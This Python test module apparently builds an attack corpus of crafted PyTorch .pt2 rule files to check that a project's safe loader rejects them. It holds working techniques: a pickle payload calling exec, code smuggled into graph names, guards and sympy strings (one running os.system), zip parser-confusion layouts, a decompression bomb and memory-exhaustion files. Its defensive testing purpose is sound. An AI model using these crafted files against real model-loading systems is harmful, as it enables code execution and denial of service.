"""Crafted rule files: a writer of torch's own zip layout, and the attack corpus built from a fresh export.

``write_canonical`` lays entries out byte for byte as torch's writer does (checked against a real export
in ``tests/test_safe_pt2.py``), so a crafted file reaches the checks behind the zip layer; ``ATTACKS`` is
the corpus, one builder per class of attack, each returning the bytes of a file made from a genuine export
that tries to run code, exhaust memory or hang. Run as a script to write the corpus to a folder::

    python -m tests.pt2_craft OUT_DIR [MARKER]
"""

from __future__ import annotations

import binascii
import io
import json
import pickle
import struct
import sys
import zlib
from pathlib import Path

import torch

from evoplast.safe_pt2 import read_canonical_zip


def entries_of(data: bytes) -> list[tuple[str, bytes]]:
    """``[(full name, bytes)]`` of a canonical archive, in order."""
    return [(name, bytes(value)) for name, value in read_canonical_zip(data).items()]


def write_canonical(entries: list[tuple[str, bytes]], *, method: int = 0, flags_data: int = 0x808) -> bytes:
    """A zip laid out as torch's writer lays it out: 64-byte aligned data behind an ``FB`` padding field,
    data descriptors, a zip64 end record, its locator and the end record. ``method`` only labels the
    entries (for crafting compressed-entry claims)."""
    out, central = bytearray(), bytearray()
    for name, data in entries:
        raw = name.encode()
        offset = len(out)
        pad = -(offset + 30 + len(raw) + 4) % 64
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        flags = flags_data if data else 0x800
        crc = binascii.crc32(data) if data else 0
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, flags, method, 0, 0, 0, 0, 0, len(raw), len(extra))
        out += raw + extra + data
        if data:
            out += struct.pack("<IIII", 0x08074B50, crc, len(data), len(data))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, 0, flags, method, 0, 0, crc, len(data),
                               len(data), len(raw), 0, 0, 0, 0, 0, offset) + raw
    return bytes(out) + end_records(len(entries), len(out), len(central), central)


def end_records(n: int, cd_offset: int, cd_size: int, central: bytes) -> bytes:
    z64 = cd_offset + cd_size
    return (bytes(central) + struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 0x2D, 0, 0, n, n, cd_size, cd_offset)
            + struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
            + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_offset, 0))


class Payload:
    """Unpickling this creates ``path`` (what an attacker's file would do instead)."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return exec, (f"open({self.path!r}, 'w').write('pwned')",)


def torch_pickle(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


# ------------------------------------------------------------------------------ editing a genuine file

def edit(good: bytes, fn) -> bytes:
    """``good`` rewritten canonically after ``fn({relative name: bytes})`` (a dict kept in order)."""
    pairs = entries_of(good)
    root = pairs[0][0].split("/", 1)[0]
    rel = {name.split("/", 1)[1]: data for name, data in pairs}
    fn(rel)
    return write_canonical([(f"{root}/{k}", v) for k, v in rel.items()])


def edit_json(rel: dict, name: str, fn) -> None:
    doc = json.loads(rel[name])
    fn(doc)
    rel[name] = json.dumps(doc).encode()


def nodes(doc):
    return doc["graph_module"]["graph"]["nodes"]


# --------------------------------------------------------------------------------------- the corpus
# Each builder: (genuine bytes, marker path) -> crafted bytes. Markers are what a payload would create.

def pickled_sample_inputs(good, marker):
    return edit(good, lambda e: e.update({"data/sample_inputs/model.pt": torch_pickle(((Payload(marker),), {}))}))


def pickled_constant(good, marker):
    def fn(e):
        e["data/constants/tensor_0"] = torch_pickle(Payload(marker))
        edit_json(e, "data/constants/model_constants_config.json", lambda d: d["config"].update(
            {"c": {"path_name": "tensor_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}))
    return edit(good, fn)


def opaque_constant(good, marker):
    def fn(e):
        e["data/constants/opaque_obj_0"] = pickle.dumps(Payload(marker))
        edit_json(e, "data/constants/model_constants_config.json", lambda d: d["config"].update(
            {"c": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}))
    return edit(good, fn)


def pickled_weight(good, marker):
    def fn(e):
        e["data/weights/weight_99"] = torch_pickle(Payload(marker))
        edit_json(e, "data/weights/model_weights_config.json",
                  lambda d: d["config"]["layer1.bias"].update(path_name="weight_99", use_pickle=True))
    return edit(good, fn)


def torchbind_constant(good, marker):
    return edit(good, lambda e: e.update({"data/constants/custom_obj_0": pickle.dumps(Payload(marker))}))


def sympy_size(good, marker):
    def fn(e):
        text = e["models/model.json"].decode()
        old = json.dumps("Symbol('s17', positive=True, integer=True)")
        new = json.dumps(f"Symbol('s17', positive=True, integer=True) + 0*open(r'{marker}', 'w').write('x')")
        e["models/model.json"] = text.replace(old, new, 1).encode()
    return edit(good, fn)


def forward_arg_names(good, marker):
    def inject(d):
        sig = d["graph_module"]["module_call_graph"][0]["signature"]
        sig["forward_arg_names"][-1] = f"y='''  + str(open(r'{marker}', 'w').write('x'))):\n    z = ((["
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def guards_code(good, marker):
    def fn(e):
        edit_json(e, "models/model.json", lambda d: d["guards_code"].append(f"open(r'{marker}', 'w').write('x') > 0"))
        e["data/sample_inputs/model.pt"] = torch_pickle(((torch.zeros(2, 204),), {}))
    return edit(good, fn)


def node_name(good, marker):
    """A value name in the graph (node, output, argument): torch turns names into Python variables."""
    code = f"x = open(r'{marker}', 'w').write('x')\n    "

    def inject(d):
        first = nodes(d)[0]
        first["name"] = code
        for out in first["outputs"]:
            if "as_tensor" in out:
                out["as_tensor"]["name"] = code
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def input_name(good, marker):
    def inject(d):
        d["graph_module"]["graph"]["inputs"][-1]["as_tensor"]["name"] = f"y, __import__('os').system('touch {marker}')"
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def signature_name(good, marker):
    def inject(d):
        spec = d["graph_module"]["signature"]["input_specs"][0]
        key = next(iter(spec))
        spec[key]["arg"]["name"] = f"b; open(r'{marker}','w')"
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def value_table_key(good, marker):
    def inject(d):
        values = d["graph_module"]["graph"]["tensor_values"]
        key = next(iter(values))
        values[f"{key}; open(r'{marker}','w')"] = values.pop(key)
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def stack_trace(good, marker):
    """torch pastes a line of a node's stack trace into a comment of the generated source; '\r' ends it."""
    def inject(d):
        nodes(d)[0].setdefault("metadata", {})["stack_trace"] = (
            f"File \"a.py\", line 1, in f\n    0\rimport os; open(r'{marker}', 'w')\n")
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def foreign_call(good, marker):
    def inject(d):
        nodes(d)[0]["target"] = "builtins.exec"
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def enum_tree_spec(good, marker):
    def inject(d):
        sig = d["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(sig["out_spec"])
        spec[1]["context"] = json.dumps({"__enum__": True, "fqn": "antigravity:X", "name": "A"})
        sig["out_spec"] = json.dumps(spec)
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def aoti_library(good, marker):
    return edit(good, lambda e: e.update({"data/aotinductor/model/model.so": b"\x7fELF" + b"\0" * 60}))


def legacy_layout(good, marker):
    return write_canonical([("archive/version", b"8.20"), ("archive/serialized_exported_program.json", b"{}"),
                            ("archive/serialized_example_inputs.pt", pickle.dumps(Payload(marker)))])


# the zip container read two ways
def second_archive_appended(good, marker):
    """A second, different archive after the first: readers that scan for the last end record see it."""
    return good + pickled_sample_inputs(good, marker)


def data_before_first_entry(good, marker):
    return b"\0" * 64 + good


def zip64_points_elsewhere(good, marker):
    """The zip64 end record names another central directory than the plain end record does."""
    data = bytearray(good)
    z64 = len(data) - 22 - 20 - 56
    struct.pack_into("<Q", data, z64 + 48, struct.unpack_from("<Q", data, z64 + 48)[0] - 46)
    return bytes(data)


def no_zip64(good, marker):
    """Only a plain end record (what Python's zipfile writes): another reader, another parse."""
    data = bytearray(good)
    end = bytes(data[-22:])
    return bytes(data[:-22 - 20 - 56]) + end


def duplicate_entry(good, marker):
    pairs = entries_of(good)
    return write_canonical(pairs + [pairs[-1]])


def shadowed_central_directory(good, marker):
    """The end record points at a second directory (appended) that names a pickled entry instead."""
    evil = entries_of(pickled_sample_inputs(good, marker))
    return good[:-22] + write_canonical(evil)[-22:]


def comment_after_end(good, marker):
    data = bytearray(good)
    struct.pack_into("<H", data, len(data) - 2, 16)
    return bytes(data) + b"PK\x05\x06" + b"\0" * 12


# resource exhaustion at load and at call
def empty_weight_large_sizes(good, marker):
    def fn(e):
        e["data/weights/weight_0"] = b""
        edit_json(e, "data/weights/model_weights_config.json", lambda d: d["config"]["initial_state"]["tensor_meta"]
                  .update(sizes=[{"as_int": 1 << 28}], strides=[{"as_int": 1}]))
    return edit(good, fn)


def short_weight_large_sizes(good, marker):
    def fn(e):
        edit_json(e, "data/weights/model_weights_config.json", lambda d: d["config"]["initial_state"]["tensor_meta"]
                  .update(sizes=[{"as_int": 1 << 16}, {"as_int": 1 << 14}], strides=[{"as_int": 1 << 14}, {"as_int": 1}]))
    return edit(good, fn)


def compressed_extra_bomb(good, marker):
    """An extra entry labelled deflate whose stream inflates to 128 MiB."""
    pairs = entries_of(good)
    root = pairs[0][0].split("/", 1)[0]
    bomb = zlib.compress(b"\0" * (128 << 20), 9)[2:-4]
    return write_canonical(pairs + [(f"{root}/extra/bomb.json", bomb)], method=8)


def directory_entry(good, marker):
    pairs = entries_of(good)
    root = pairs[0][0].split("/", 1)[0]
    return write_canonical(pairs + [(f"{root}/extra/dir/", b"")])


def sympy_slow(good, marker):
    """A symbolic size that sympy spends minutes simplifying."""
    def fn(e):
        text = e["models/model.json"].decode()
        old = json.dumps("Symbol('s17', positive=True, integer=True)")
        new = json.dumps("Pow(Integer(10), Integer(10000000))*Symbol('s17', positive=True, integer=True)")
        e["models/model.json"] = text.replace(old, new, 1).encode()
    return edit(good, fn)


def huge_constant_size(good, marker):
    """An expand to a constant size the file chooses: allocates at the first call."""
    def inject(d):
        for n in nodes(d):
            if n["target"] == "torch.ops.aten.expand.default":
                n["inputs"][1]["arg"] = {"as_ints": [1 << 20, 1 << 20, 4]}
                return
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def many_nodes(good, marker):
    def inject(d):
        nodes(d).extend([dict(nodes(d)[-1])] * 200_000)
    return edit(good, lambda e: edit_json(e, "models/model.json", inject))


def deep_json(good, marker):
    return edit(good, lambda e: e.update({"extra/evoplast.json": b"[" * 100_000 + b"]" * 100_000}))


def duplicate_json_key(good, marker):
    def fn(e):
        text = e["extra/evoplast.json"].decode()
        e["extra/evoplast.json"] = ('{"sizes": [1, 1],' + text[1:]).encode()
    return edit(good, fn)


# the data a rule holds, inconsistent with itself (only load_rule reads these)
def manifest_not_object(good, marker):
    return edit(good, lambda e: e.update({"extra/evoplast.json": b"[1, 2]"}))


def manifest_huge_width(good, marker):
    return edit(good, lambda e: edit_json(e, "extra/evoplast.json", lambda d: d.update(sizes=[4, 1 << 40, 1])))


def manifest_wrong_architecture(good, marker):
    return edit(good, lambda e: edit_json(e, "extra/evoplast.json", lambda d: d.update(sizes=[4, 13, 12, 1])))


def initial_state_mismatch(good, marker):
    def fn(e):
        raw = bytearray(e["data/weights/weight_0"])
        raw[:4] = struct.pack("<f", 1e30)
        e["data/weights/weight_0"] = bytes(raw)
    return edit(good, fn)


ATTACKS = {
    # pickles in every place torch unpickles
    "pickled sample inputs": pickled_sample_inputs, "pickled constant": pickled_constant,
    "opaque constant": opaque_constant, "pickled weight": pickled_weight, "TorchBind constant": torchbind_constant,
    "legacy layout": legacy_layout,
    # strings torch turns into code or imports
    "sympy size": sympy_size, "forward argument names": forward_arg_names, "guards code": guards_code,
    "node name": node_name, "input name": input_name, "signature name": signature_name,
    "value table key": value_table_key, "stack trace": stack_trace, "foreign call": foreign_call,
    "enum tree spec": enum_tree_spec, "AOTInductor library": aoti_library,
    # the zip read two ways
    "second archive appended": second_archive_appended, "data before the first entry": data_before_first_entry,
    "zip64 record points elsewhere": zip64_points_elsewhere, "no zip64 records": no_zip64,
    "duplicate entry": duplicate_entry, "shadowed central directory": shadowed_central_directory,
    "comment after the end record": comment_after_end,
    # resources at load and at call
    "empty weight, large sizes": empty_weight_large_sizes, "short weight, large sizes": short_weight_large_sizes,
    "compressed extra entry": compressed_extra_bomb, "directory entry": directory_entry, "slow sympy": sympy_slow,
    "huge constant size": huge_constant_size, "200,000 nodes": many_nodes, "deeply nested JSON": deep_json,
    "duplicate JSON key": duplicate_json_key,
    # rule data inconsistent with itself
    "manifest not an object": manifest_not_object, "manifest huge width": manifest_huge_width,
    "manifest, other architecture": manifest_wrong_architecture, "initial state mismatch": initial_state_mismatch,
}


# attacks on the rule's own data: torch never reads the manifest, so only load_rule has to refuse them
DATA_ONLY = frozenset({"deeply nested JSON", "duplicate JSON key", "manifest not an object", "manifest huge width",
                       "manifest, other architecture", "initial state mismatch"})


def write_corpus(good: bytes, folder: Path, marker: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for i, (name, build) in enumerate(ATTACKS.items()):
        path = folder / f"{i:02d}.pt2"
        path.write_bytes(build(good, marker))
        out[name] = path
    return out


if __name__ == "__main__":
    from tests.test_export import _genome
    from evoplast.export import export_rule

    target = Path(sys.argv[1])
    cfg, ev, g = _genome()
    good = export_rule(ev.spec.model, ev.spec.decode(g), target / "genuine.pt2").read_bytes()
    for name, path in write_corpus(good, target, Path(sys.argv[2] if len(sys.argv) > 2 else target / "marker")).items():
        print(f"{path.name}  {name}")
